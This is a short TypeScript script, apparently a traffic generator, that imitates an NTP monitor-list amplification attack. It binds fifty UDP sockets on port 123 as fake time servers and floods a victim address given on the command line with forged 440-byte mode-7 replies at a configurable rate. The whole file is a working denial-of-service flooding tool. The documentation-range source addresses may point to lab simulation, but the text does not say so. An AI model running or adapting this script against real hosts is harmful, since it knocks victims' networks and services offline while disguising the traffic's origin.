// Sends a victim the large answers of fifty time servers that it never asked (the answers of an NTP
// monitor list, as a forged request would cause them). Arguments: victim, datagrams per second.
import { createSocket } from 'node:dgram';

const SERVERS = 50;
const ANSWER_BYTES = 440;
const TURN_MS = 10;

const [victim = '', perSecond = '100'] = process.argv.slice(2);
const answer = Buffer.alloc(ANSWER_BYTES, 0x2a);
// Response, more to come, version 2, mode 7; implementation 3, request 42; six items of 72 bytes.
Buffer.from([0xd7, 0x00, 0x03, 0x2a, 0x00, 0x06, 0x00, 0x48]).copy(answer);

const sockets = await Promise.all(
  Array.from({ length: SERVERS }, async (_, i) => {
    const socket = createSocket('udp4');
    await new Promise<void>((bound) => socket.bind(123, `198.51.100.${100 + i}`, bound));
    return socket;
  }),
);
const port = 1024 + Math.floor(Math.random() * 60_000);
let [sent, turns] = [0, 0];
setInterval(() => {
  turns++;
  for (const due = (turns * TURN_MS * Number(perSecond)) / 1000; sent < due; sent++) {
    sockets[sent % SERVERS]!.send(answer, port, victim);
  }
}, TURN_MS);
